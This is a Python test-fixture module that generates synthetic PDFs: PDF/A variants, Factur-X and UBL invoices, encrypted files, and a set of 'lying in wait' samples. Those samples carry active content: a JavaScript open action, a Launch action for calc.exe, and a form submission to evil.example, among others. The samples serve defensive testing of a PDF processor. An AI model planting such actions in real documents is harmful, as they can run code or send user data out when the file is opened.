"""Made-up PDFs that the samples lack: PDF/A of every part, structured invoices, and what may lie in wait inside."""

from __future__ import annotations

import re
from collections.abc import Mapping
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String, pdfa

from receipts.pdfa import typeset
from receipts.policy import Limits

CII = b"""<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
 xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"
 xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
<rsm:ExchangedDocument><ram:ID>F-2026-7</ram:ID><ram:TypeCode>380</ram:TypeCode>
<ram:IssueDateTime><udt:DateTimeString format="102">20261102</udt:DateTimeString></ram:IssueDateTime>
</rsm:ExchangedDocument>
<rsm:SupplyChainTradeTransaction><ram:ApplicableHeaderTradeAgreement>
<ram:SellerTradeParty><ram:Name>Caf\xc3\xa9 du Port &amp; fils</ram:Name></ram:SellerTradeParty>
<ram:BuyerTradeParty><ram:Name>Acme SA</ram:Name></ram:BuyerTradeParty></ram:ApplicableHeaderTradeAgreement>
<ram:ApplicableHeaderTradeSettlement><ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
<ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:GrandTotalAmount>120.00</ram:GrandTotalAmount>
<ram:DuePayableAmount>120.00</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
</ram:ApplicableHeaderTradeSettlement></rsm:SupplyChainTradeTransaction></rsm:CrossIndustryInvoice>
"""
UBL = b"""<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
<cbc:ID>U-1</cbc:ID><cbc:IssueDate>2026-11-02</cbc:IssueDate><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
<cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="EUR">42.50</cbc:PayableAmount></cac:LegalMonetaryTotal>
</Invoice>"""
FX = "urn:factur-x:pdfa:CrossIndustryDocument:invoice:1p0#"


def page(text: str = "Invoice 120.00 EUR") -> Pdf:
    """A page with text in an embedded font."""
    body = f'<h1>{text}</h1><p style="color: #aa0000">Total</p>'
    pdf = typeset.pages("<p>Shop</p>", body, {}, Limits().pages).pdf
    del pdf.trailer["/Info"]  # it holds the present
    return pdf


def written(pdf: Pdf, **options: Any) -> bytes:
    out = BytesIO()
    pdf.save(out, **({"static_id": True} | options))
    return out.getvalue()


def pdf_a(flavour: str = "3b", *, pdf: Pdf | None = None, level: str | None = None) -> bytes:
    """A file that is PDF/A, as some other program makes it."""
    pdf = pdf or page()
    for thing in pdf.objects:
        if isinstance(thing, Dictionary | Stream) and "/Group" in thing:
            del thing["/Group"]  # part 1 bars transparency
    prepare(pdf, flavour)
    if level:
        packet = pdf.Root.Metadata.read_bytes()
        changed = packet.replace(b"conformance>B<", b"conformance>%s<" % level.encode())
        changed = changed.replace(b'conformance="B"', b'conformance="%s"' % level.encode())
        assert changed != packet
        pdf.Root.Metadata.write(changed)
    return written(pdf, **pdfa.resolve_save_kwargs(flavour, static_id=True))


def prepare(pdf: Pdf, flavour: str = "3b") -> None:
    """As pikepdf does it, but for the present that it writes down."""
    pdfa.prepare(pdf, flavour)
    packet = pdf.Root.Metadata.read_bytes()
    pdf.Root.Metadata.write(re.sub(rb"\d{4}-\d\d-\d\dT[0-9:.]+", b"2026-11-02T12:00:00", packet))


def factur_x(
    *,
    xml: bytes = CII,
    name: str = "factur-x.xml",
    namespace: str = FX,
    conforming: bool = True,
    level: str = "EN 16931",
) -> bytes:
    """A Factur-X invoice: PDF/A-3b with its XML and the XMP that announces it."""
    pdf = page()
    if not conforming:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        pdf.pages[0].add_resource(font, Name.Font, Name.Plain)
        pdf.pages[0].contents_add(b"BT /Plain 20 Tf 100 100 Td (not embedded) Tj ET")
    attach(pdf, name, xml, "/Alternative")
    prepare(pdf)
    packet = pdf.Root.Metadata.read_bytes().decode()
    values = {"DocumentType": "INVOICE", "DocumentFileName": name, "Version": "1.0", "ConformanceLevel": level}
    said = "".join(f"<fx:{key}>{value}</fx:{key}>" for key, value in values.items())
    declared = "".join(
        '<rdf:li rdf:parseType="Resource">'
        f"<pdfaProperty:name>{key}</pdfaProperty:name><pdfaProperty:valueType>Text</pdfaProperty:valueType>"
        "<pdfaProperty:category>external</pdfaProperty:category>"
        f"<pdfaProperty:description>{key}</pdfaProperty:description></rdf:li>"
        for key in values
    )
    more = (
        f'<rdf:Description rdf:about="" xmlns:fx="{namespace}">{said}</rdf:Description>'
        '<rdf:Description rdf:about="" xmlns:pdfaExtension="http://www.aiim.org/pdfa/ns/extension/"'
        ' xmlns:pdfaSchema="http://www.aiim.org/pdfa/ns/schema#"'
        ' xmlns:pdfaProperty="http://www.aiim.org/pdfa/ns/property#"><pdfaExtension:schemas><rdf:Bag>'
        '<rdf:li rdf:parseType="Resource"><pdfaSchema:schema>Factur-X</pdfaSchema:schema>'
        f"<pdfaSchema:namespaceURI>{namespace}</pdfaSchema:namespaceURI><pdfaSchema:prefix>fx</pdfaSchema:prefix>"
        f"<pdfaSchema:property><rdf:Seq>{declared}</rdf:Seq></pdfaSchema:property></rdf:li>"
        "</rdf:Bag></pdfaExtension:schemas></rdf:Description>"
    )
    pdf.Root.Metadata.write(packet.replace("</rdf:RDF>", more + "</rdf:RDF>").encode())
    return written(pdf, **pdfa.resolve_save_kwargs("3b", static_id=True))


def attach(pdf: Pdf, name: str, content: bytes, relationship: str = "/Unspecified") -> None:
    """An associated file."""
    stream = Stream(pdf, content, Type=Name.EmbeddedFile, Subtype=Name("/text/xml"))
    stream.Params = Dictionary(Size=len(content), ModDate=String("D:20261102120000Z"))
    reference = pdf.make_indirect(stream)
    file = pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String(name),
            UF=String(name),
            AFRelationship=Name(relationship),
            EF=Dictionary(F=reference, UF=reference),
        )
    )
    pdf.Root.AF = Array([*pdf.Root.get("/AF", Array()), file])
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), file])))


def with_locked_files() -> bytes:
    """A PDF that asks for a password, for the files inside alone (ISO 32000-1 7.6.5)."""
    pdf = page()
    attach(pdf, "factur-x.xml", bytes(range(256)))
    method = b"<</StdCF<</CFM/AESV2/AuthEvent/EFOpen/Length 16>>>>/StmF/Identity/StrF/Identity/EFF/StdCF"
    locked = b"/Encrypt<</Filter/Standard/V 4/R 4/Length 128/P -4/CF" + method
    locked += b"/O<%s>/U<%s>>>" % (b"ab" * 32, b"cd" * 32)
    plain = written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"trailer <<", b"trailer <<" + locked)


def in_lzw(content: bytes) -> bytes:
    """LZW (ISO 32000-1 7.4.4) of up to 250 bytes, none of them packed."""
    bits = "".join(f"{code:09b}" for code in (256, *content, 257))
    return int(bits.ljust(-(-len(bits) // 8) * 8, "0"), 2).to_bytes(-(-len(bits) // 8), "big")


def lying_in_wait() -> Mapping[str, bytes]:
    """PDFs with something inside that must neither run nor get lost."""
    made: dict[str, Pdf] = {}
    made["javascript"] = page()
    made["javascript"].Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made["launch"] = page()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 90, 90]), Border=Array([0, 0, 0]))
    link.A = Dictionary(Type=Name.Action, S=Name.Launch, F=String("calc.exe"))
    made["launch"].pages[0].obj.Annots = Array([made["launch"].make_indirect(link)])
    actions = {
        "remote": Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        "submit": Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))),
        "import": Dictionary(S=Name.ImportData, F=String("data.fdf")),
        "next": Dictionary(S=Name.URI, URI=String("http://a.example/"), Next=Dictionary(S=Name.Launch, F=String("x"))),
    }
    for name, action in actions.items():
        made[name] = page()
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 90, 90]), Border=Array([0, 0, 0]))
        link.A = action
        made[name].pages[0].obj.Annots = Array([made[name].make_indirect(link)])
    made["rich media"] = page()
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 90, 90]))
    made["rich media"].pages[0].obj.Annots = Array([made["rich media"].make_indirect(media)])
    made["portfolio"] = page()
    attach(made["portfolio"], "inner.pdf", pdf_a())
    made["portfolio"].Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    made["xfa"] = page()
    made["xfa"].Root.AcroForm = Dictionary(Fields=Array([]), XFA=made["xfa"].make_stream(b"<xdp:xdp/>"))
    made["layers"] = page()
    layer = made["layers"].make_indirect(Dictionary(Type=Name.OCG, Name=String("hidden")))
    made["layers"].Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
    made["layers"].pages[0].obj.Resources.Properties = Dictionary(L=layer)
    made["layers"].pages[0].contents_add(b"/OC /L BDC 1 0 0 rg 0 0 300 300 re f EMC")
    made["seen-through"] = page()
    faint = made["seen-through"].make_indirect(Dictionary(Type=Name.ExtGState, ca=0.5, BM=Name.Multiply))
    made["seen-through"].pages[0].add_resource(faint, Name.ExtGState, Name.Faint)
    made["seen-through"].pages[0].contents_add(b"q /Faint gs 0 0 1 rg 20 20 300 300 re f Q")
    made["four-inks"] = page()
    made["four-inks"].pages[0].contents_add(b"1 0 0 0 k 20 20 300 300 re f")
    made["note"] = page()
    mark = Stream(made["note"], b"0 1 0 rg 0 0 50 50 re f", Type=Name.XObject, Subtype=Name.Form)
    mark.BBox = Array([0, 0, 50, 50])
    stamp = Dictionary(Type=Name.Annot, Subtype=Name.Stamp, Rect=Array([50, 50, 100, 100]), F=4)
    stamp.AP = Dictionary(N=made["note"].make_indirect(mark))
    made["note"].pages[0].obj.Annots = Array([made["note"].make_indirect(stamp)])
    made["lzw"] = page()
    lzw = Stream(made["lzw"], in_lzw(b" 0 0 1 rg 20 20 300 300 re f "), Filter=Name.LZWDecode)
    made["lzw"].pages[0].obj.Contents.append(made["lzw"].make_indirect(lzw))
    files = {name: written(pdf) for name, pdf in made.items()}
    files["owner"] = written(page(), encryption=pikepdf.Encryption(user="", owner="o"), static_id=False)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    plain = page()
    plain.pages[0].add_resource(font, Name.Font, Name.Plain)
    plain.pages[0].contents_add(b"BT /Plain 20 Tf 100 100 Td (not embedded) Tj ET")
    files["font-not-embedded"] = written(plain)
    return files
